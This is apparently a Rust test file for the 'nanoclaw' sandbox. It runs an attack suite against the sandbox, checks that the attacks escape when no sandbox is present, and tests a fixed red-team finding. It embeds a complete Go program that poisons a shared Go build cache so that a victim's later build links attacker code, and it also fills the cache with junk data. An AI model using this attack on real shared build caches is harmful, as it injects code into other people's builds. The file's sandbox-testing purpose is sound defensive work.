//! The containment suite (`tests/containment/run.py`) against the real
//! `nanoclaw` binary: as the invoking user (root in CI) and rootless as the
//! unprivileged user `nanotest` (uid 1500, created by CI). Plus the suite's
//! self-validation: without a sandbox, most attacks must escape — a suite
//! that cannot fail proves nothing.
//!
//! Rootless runs need user `nanotest`. Without it they are skipped with a
//! message, unless `NANOCLAW_REQUIRE_ROOTLESS=1`, in which case they fail.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

mod common;

const ROOTLESS_USER: &str = "nanotest";

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions and cannot fail.
    unsafe { libc::geteuid() == 0 }
}

/// uid and gid of the rootless test user, from /etc/passwd.
fn rootless_user() -> Option<(u32, u32)> {
    let passwd = fs::read_to_string("/etc/passwd").ok()?;
    for line in passwd.lines() {
        let f: Vec<&str> = line.split(':').collect();
        if f.len() > 3 && f[0] == ROOTLESS_USER {
            return Some((f[2].parse().ok()?, f[3].parse().ok()?));
        }
    }
    None
}

/// The rootless user when the test can switch to it; otherwise a skip
/// message (a failure if NANOCLAW_REQUIRE_ROOTLESS=1).
fn rootless_or_skip(what: &str) -> Option<(u32, u32)> {
    let required = std::env::var("NANOCLAW_REQUIRE_ROOTLESS").is_ok_and(|v| v == "1");
    let why = if !is_root() {
        "the tests are not running as root, so they cannot switch users (the invoking-user run is already rootless)"
    } else if rootless_user().is_none() {
        "user `nanotest` does not exist (CI creates it: useradd -u 1500 -m nanotest)"
    } else {
        return rootless_user();
    };
    assert!(
        !required,
        "{what}: rootless run required (NANOCLAW_REQUIRE_ROOTLESS=1) but {why}"
    );
    eprintln!("SKIPPED {what} (rootless): {why}");
    None
}

fn python() -> &'static str {
    // The system interpreter: readable by every user (a pyenv shim under /root is not).
    if Path::new("/usr/bin/python3").exists() {
        "/usr/bin/python3"
    } else {
        "python3"
    }
}

/// A world-readable copy of the binary and of the suite, so that an
/// unprivileged user can run them (target/ may sit under /root).
struct Stage {
    dir: PathBuf,
}

impl Stage {
    fn new(tag: &str) -> Stage {
        let dir =
            std::env::temp_dir().join(format!("nanoclaw-containment-{tag}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(dir.join("suite/attacks")).expect("create stage dir");
        fs::copy(env!("CARGO_BIN_EXE_nanoclaw"), dir.join("nanoclaw"))
            .expect("copy nanoclaw binary");
        let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/containment");
        fs::copy(src.join("run.py"), dir.join("suite/run.py")).expect("copy run.py");
        for e in fs::read_dir(src.join("attacks")).expect("read attacks dir") {
            let p = e.expect("dir entry").path();
            if p.extension().is_some_and(|x| x == "py") {
                fs::copy(
                    &p,
                    dir.join("suite/attacks").join(p.file_name().expect("name")),
                )
                .expect("copy attack");
            }
        }
        for (p, mode) in [
            (dir.clone(), 0o755),
            (dir.join("suite"), 0o755),
            (dir.join("suite/attacks"), 0o755),
            (dir.join("nanoclaw"), 0o755),
        ] {
            fs::set_permissions(&p, fs::Permissions::from_mode(mode)).expect("chmod");
        }
        for e in fs::read_dir(dir.join("suite/attacks")).expect("read staged attacks") {
            let p = e.expect("entry").path();
            fs::set_permissions(&p, fs::Permissions::from_mode(0o644)).expect("chmod attack");
        }
        fs::set_permissions(dir.join("suite/run.py"), fs::Permissions::from_mode(0o644))
            .expect("chmod run.py");
        Stage { dir }
    }
    fn bin(&self) -> PathBuf {
        self.dir.join("nanoclaw")
    }
    fn runner(&self) -> PathBuf {
        self.dir.join("suite/run.py")
    }
}

impl Drop for Stage {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.dir);
    }
}

/// Runs the suite; returns (exit status, parsed JSON report, stderr).
/// The suite's host fixtures (marker files in /var/tmp and /dev/shm, a
/// sleeper, listeners) and its host-evidence checks are host-wide: one run's
/// markers look like another run's leftovers. Runs are serialised.
static SUITE_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn run_suite(stage: &Stage, user: Option<(u32, u32)>, args: &[&str]) -> (i32, Value, String) {
    let _serial = SUITE_LOCK.lock().unwrap_or_else(|e| e.into_inner());
    let mut cmd = match user {
        Some((uid, gid)) => {
            let mut c = Command::new("setpriv");
            c.args([
                "--reuid",
                &uid.to_string(),
                "--regid",
                &gid.to_string(),
                "--clear-groups",
                "--",
            ]);
            c.arg(python());
            c
        }
        None => Command::new(python()),
    };
    // The report file must be writable by the user: the stage dir is 0755 root-owned, so use a 1777 dir.
    let report_dir = stage.dir.join(format!("out-{}", user.map_or(0, |u| u.0)));
    fs::create_dir_all(&report_dir).expect("report dir");
    fs::set_permissions(&report_dir, fs::Permissions::from_mode(0o1777)).expect("chmod report dir");
    let report = report_dir.join("report.json");
    let _ = fs::remove_file(&report);
    cmd.arg(stage.runner())
        .args(args)
        .arg("--python")
        .arg(python())
        .arg("--json-report")
        .arg(&report)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", "/tmp")
        .env("LANG", "C.UTF-8")
        .current_dir("/")
        .stdin(Stdio::null());
    let out = cmd.output().expect("run the containment suite");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    eprintln!("{stderr}");
    let text = fs::read_to_string(&report)
        .unwrap_or_else(|e| panic!("the suite wrote no report ({e}); its stderr:\n{stderr}"));
    let v: Value = serde_json::from_str(&text).expect("report is JSON");
    (out.status.code().unwrap_or(-1), v, stderr)
}

/// Attack names with the given verdicts, with their worst checks.
fn failures(report: &Value, verdicts: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    for r in report["results"].as_array().expect("results array") {
        let v = r["verdict"].as_str().unwrap_or("?");
        if verdicts.contains(&v) {
            let checks: Vec<String> = r["checks"]
                .as_array()
                .map(|cs| {
                    cs.iter()
                        .filter(|c| c["verdict"] != "CONTAINED")
                        .take(4)
                        .map(|c| format!("{} {}: {}", c["verdict"], c["check"], c["detail"]))
                        .collect()
                })
                .unwrap_or_default();
            out.push(format!(
                "{v} {}: {} {}",
                r["name"].as_str().unwrap_or("?"),
                checks.join("; "),
                if v == "ERROR" {
                    format!("stderr: {} stdout: {}", r["stderr_tail"], r["stdout_tail"])
                } else {
                    String::new()
                }
            ));
        }
    }
    out
}

fn assert_contained(stage: &Stage, user: Option<(u32, u32)>, who: &str) {
    let bin = stage.bin();
    let (code, report, _) = run_suite(
        stage,
        user,
        // /dev/shm is the sandbox's own tmpfs (POSIX shared memory, needed
        // by e.g. python's multiprocessing), writable like /tmp by design.
        &[
            "--nanoclaw",
            bin.to_str().expect("utf-8 path"),
            "--allow-write",
            "/tmp",
            "--allow-write",
            "/dev/shm",
        ],
    );
    let n = report["results"].as_array().map_or(0, |a| a.len());
    assert!(n >= 25, "{who}: only {n} attacks ran");
    let bad = failures(&report, &["ESCAPED", "EXPOSED", "ERROR"]);
    assert!(
        bad.is_empty() && code == 0,
        "{who}: the sandbox did not contain every attack (exit {code}):\n{}",
        bad.join("\n")
    );
}

#[test]
fn containment_suite_as_invoking_user() {
    let stage = Stage::new("self");
    let who = if is_root() {
        "as root"
    } else {
        "as the invoking (unprivileged) user"
    };
    assert_contained(&stage, None, who);
}

#[test]
fn containment_suite_rootless() {
    let Some(user) = rootless_or_skip("containment_suite_rootless") else {
        return;
    };
    let stage = Stage::new("rootless");
    assert_contained(&stage, Some(user), "rootless as nanotest");
}

/// Self-validation: the same attacks with no sandbox at all must escape
/// (most of them), or the suite could not fail.
#[test]
fn containment_suite_can_fail_without_a_sandbox() {
    let stage = Stage::new("bare");
    let (code, report, stderr) = run_suite(&stage, None, &["--preset", "bare", "--expect-escape"]);
    assert_eq!(
        code,
        0,
        "self-validation had ERRORs:\n{}\n{stderr}",
        failures(&report, &["ERROR"]).join("\n")
    );
    let results = report["results"].as_array().expect("results");
    let escaped = results
        .iter()
        .filter(|r| r["verdict"] == "ESCAPED" || r["verdict"] == "EXPOSED")
        .count();
    // As root nearly everything escapes (x32 cannot on kernels without
    // CONFIG_X86_X32_ABI; a setuid binary cannot elevate root). Unprivileged,
    // the privileged attacks cannot, but the host's files, processes and
    // network are still in reach.
    let need = if is_root() {
        results.len() - 3
    } else {
        results.len() * 2 / 3
    };
    assert!(
        escaped >= need,
        "without a sandbox only {escaped}/{} attacks escaped (need {need}); contained:\n{}",
        results.len(),
        failures(&report, &["CONTAINED", "SKIP"]).join("\n")
    );
    // The attacks that must escape on any host, privileged or not.
    let mut must = vec![
        "fs_host_secrets",
        "proc_host_pids",
        "network",
        "cve_2024_21626",
        "host_env_secret",
        "fork_bomb",
        "memory_hog",
    ];
    // TIOCSTI needs CAP_SYS_ADMIN when the kernel's legacy_tiocsti is off.
    if is_root()
        || fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").is_ok_and(|v| v.trim() == "1")
    {
        must.push("tiocsti");
    }
    for name in must {
        let r = results
            .iter()
            .find(|r| r["name"] == name)
            .expect("attack present");
        assert_eq!(
            r["verdict"], "ESCAPED",
            "{name} should escape without a sandbox: {r}"
        );
    }
}

// ------------------------------------------------- Go build cache poisoning

/// The victim's program, compiled with `--lang go`.
const GO_VICTIM: &str =
    "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"victim ok\") }\n";

/// The attacker's `--lang go` snippet. In every build cache it can reach
/// (`$GOCACHE`, the shared mount) it writes a 200 MiB file (removed again
/// if it does not fit, so the rest of the attack can run), counts the
/// existing entries it can open for writing, and plants a poisoned entry.
/// Go's action ids do not depend on the cache, so it compiles the victim's
/// program (same source, same path, same environment) and one of its own
/// in a scratch cache to learn their entries, then writes into the target
/// cache its own compiled package and the victim's compile entry pointing
/// at it. A later build of the victim's program that reads that cache
/// links the attacker's code.
const GO_ATTACK: &str = r#"package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

const victim = "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"victim ok\") }\n"
const evil = "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"PWNED by the attacker\") }\n"

// learn compiles code at the victim's path with a fresh cache and returns
// the compile action's entry (relative path, fields) and its output.
func learn(code string) (string, []string, []byte) {
	scratch, _ := os.MkdirTemp("/tmp", "scratch")
	defer os.RemoveAll(scratch)
	os.WriteFile("/tmp/nanoclaw-go/main.go", []byte(code), 0o644)
	cmd := exec.Command("go", "build", "-o", "/tmp/nanoclaw-go/other", "main.go")
	cmd.Dir = "/tmp/nanoclaw-go"
	cmd.Env = append(os.Environ(), "GOCACHE="+scratch)
	if out, err := cmd.CombinedOutput(); err != nil {
		fmt.Println("build failed:", err, string(out))
	}
	rel, fields, output := "", []string(nil), []byte(nil)
	filepath.Walk(scratch, func(p string, fi os.FileInfo, err error) error {
		if err != nil || !strings.HasSuffix(p, "-a") {
			return nil
		}
		b, _ := os.ReadFile(p)
		f := strings.Fields(string(b))
		if len(f) < 5 || len(f[2]) < 2 {
			return nil
		}
		d, _ := os.ReadFile(filepath.Join(scratch, f[2][:2], f[2]+"-d"))
		if bytes.HasPrefix(d, []byte("!<arch>\n")) {
			rel, _ = filepath.Rel(scratch, p)
			fields, output = f, d
		}
		return nil
	})
	return rel, fields, output
}

func main() {
	vrel, vf, _ := learn(victim)
	_, ef, eout := learn(evil)
	if vf == nil || ef == nil {
		fmt.Println("could not learn the compile entries")
		return
	}
	seen := map[string]bool{}
	for _, c := range []string{os.Getenv("GOCACHE"), "/nanoclaw/gocache"} {
		if c == "" || seen[c] {
			continue
		}
		seen[c] = true
		if fi, err := os.Stat(c); err != nil || !fi.IsDir() {
			fmt.Println("no cache at", c)
			continue
		}
		big := filepath.Join(c, "big")
		if f, err := os.Create(big); err != nil {
			fmt.Println("cannot create a file in", c, err)
		} else {
			buf := make([]byte, 1<<20)
			n := 0
			var werr error
			for ; n < 200; n++ {
				if _, werr = f.Write(buf); werr != nil {
					break
				}
			}
			f.Close()
			if werr != nil {
				os.Remove(big)
			}
			fmt.Println("wrote", n, "MiB into", c, werr)
		}
		writable := 0
		filepath.Walk(c, func(p string, fi os.FileInfo, err error) error {
			if err == nil && strings.HasSuffix(p, "-d") {
				if f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0); err == nil {
					writable++
					f.Close()
				}
			}
			return nil
		})
		fmt.Println(writable, "existing entries writable in", c)
		out := filepath.Join(c, ef[2][:2], ef[2]+"-d")
		os.MkdirAll(filepath.Dir(out), 0o777)
		err1 := os.WriteFile(out, eout, 0o644)
		entry := filepath.Join(c, vrel)
		os.MkdirAll(filepath.Dir(entry), 0o777)
		line := fmt.Sprintf("v1 %s %s %20s %20s\n", vf[1], ef[2], ef[3], ef[4])
		err2 := os.WriteFile(entry, []byte(line), 0o644)
		fmt.Println("planted into", c, "output:", err1, "entry:", err2)
	}
}
"#;

/// Bytes of the regular files under `dir`.
fn tree_bytes(dir: &Path) -> u64 {
    let mut n = 0;
    for e in fs::read_dir(dir).into_iter().flatten().flatten() {
        let Ok(md) = fs::symlink_metadata(e.path()) else {
            continue;
        };
        if md.is_dir() {
            n += tree_bytes(&e.path());
        } else {
            n += md.len();
        }
    }
    n
}

/// Red team finding: every `--lang go` run mounted one host build cache
/// read-write, shared across agents and sessions, so an attacker's snippet
/// planted cache entries that a later victim's build linked and ran, and
/// left 1 GiB on the host past every size limit. Now: the victim runs its
/// own code, and nothing a sandbox writes grows the host's cache.
#[test]
fn go_build_cache_cannot_be_poisoned_or_filled() {
    if !Path::new("/usr/bin/go").exists() {
        assert!(
            std::env::var("NANOCLAW_REQUIRE_GO").map_or(true, |v| v != "1"),
            "NANOCLAW_REQUIRE_GO=1 but /usr/bin/go is missing (apt-get install golang-go)"
        );
        eprintln!("SKIPPED go_build_cache_cannot_be_poisoned_or_filled: no /usr/bin/go (apt-get install golang-go)");
        return;
    }
    for m in common::modes("go build cache poisoning") {
        // A data dir of its own (the host's cache lives under it), owned by
        // whoever runs nanoclaw.
        let data = std::env::temp_dir().join(format!(
            "nanoclaw-gocache-{}-{}",
            m.name,
            std::process::id()
        ));
        let _ = fs::remove_dir_all(&data);
        fs::create_dir_all(&data).expect("data dir");
        if let Some((uid, gid)) = m.user {
            std::os::unix::fs::chown(&data, Some(uid), Some(gid)).expect("chown data dir");
        }
        let go = |code: &str| {
            let mut c = common::nc(m, &["run", "--lang", "go", "--code", code]);
            c.env("NANOCLAW_DATA_DIR", &data);
            c.output().expect("run nanoclaw")
        };
        // The victim first: the cache is ready, its program runs.
        let o = go(GO_VICTIM);
        assert_eq!(
            (common::code(&o), common::text(&o.stdout).as_str()),
            (0, "victim ok\n"),
            "[{}] {}",
            m.name,
            common::text(&o.stderr)
        );
        let before = tree_bytes(&data);
        let attack = go(GO_ATTACK);
        let grown = tree_bytes(&data).saturating_sub(before);
        let o = go(GO_VICTIM);
        let _ = fs::remove_dir_all(&data);
        let report = format!(
            "attacker's run (exit {:?}):\n{}{}",
            attack.status.code(),
            common::text(&attack.stdout),
            common::text(&attack.stderr)
        );
        assert_eq!(
            (common::code(&o), common::text(&o.stdout).as_str()),
            (0, "victim ok\n"),
            "[{}] the victim's build ran something else (stderr: {})\n{report}",
            m.name,
            common::text(&o.stderr)
        );
        assert!(
            grown < 1 << 20,
            "[{}] the attacker's run grew the host's cache by {grown} bytes\n{report}",
            m.name
        );
    }
}

/// The suite through `nanoclaw run --backend docker` (image
/// `nanoclaw-bench:latest`: sh and python3). What Docker cannot contain
/// the way the native engine does is listed in the README's table and
/// allowed here by name, nothing else.
#[test]
fn containment_suite_docker_backend() {
    let docker = Command::new("docker")
        .args(["image", "inspect", "nanoclaw-bench:latest"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !docker {
        assert!(
            std::env::var("NANOCLAW_REQUIRE_DOCKER").as_deref() != Ok("1"),
            "NANOCLAW_REQUIRE_DOCKER=1 but Docker or the image nanoclaw-bench:latest is missing (.ci/build-bench-image.sh)"
        );
        eprintln!(
            "SKIPPED containment_suite_docker_backend: Docker or nanoclaw-bench:latest missing"
        );
        return;
    }
    let stage = Stage::new("docker");
    let bin = stage.bin();
    let p = format!(
        "{} run --backend docker --image nanoclaw-bench:latest",
        bin.display()
    );
    let (prefix, pids, memory) = (
        format!("{p} --"),
        format!("{p} --pids 64 --"),
        format!("{p} --memory 64m --"),
    );
    let (code, report, stderr) = run_suite(
        &stage,
        None,
        &[
            "--prefix",
            &prefix,
            "--pids-prefix",
            &pids,
            "--pids-limit",
            "64",
            "--memory-prefix",
            &memory,
            "--memory-limit",
            "64",
            "--allow-write",
            "/tmp",
            "--allow-write",
            "/dev/shm",
        ],
    );
    let n = report["results"].as_array().map_or(0, |a| a.len());
    assert!(n >= 25, "only {n} attacks ran: {stderr}");
    // The README's table: not expressible in Docker's seccomp format, and
    // the per-user inotify pool shared without userns-remap.
    let known = ["syscalls_kernel_features", "inotify_exhaustion"];
    let bad: Vec<String> = failures(&report, &["ESCAPED", "EXPOSED", "ERROR"])
        .into_iter()
        .filter(|f| !known.iter().any(|k| f.contains(k)))
        .collect();
    assert!(
        bad.is_empty(),
        "--backend docker: beyond the README's known differences (exit {code}):\n{}",
        bad.join("\n")
    );
    let known_seen = failures(&report, &["ESCAPED"]);
    assert!(known_seen.len() <= known.len(), "{known_seen:?}");
}
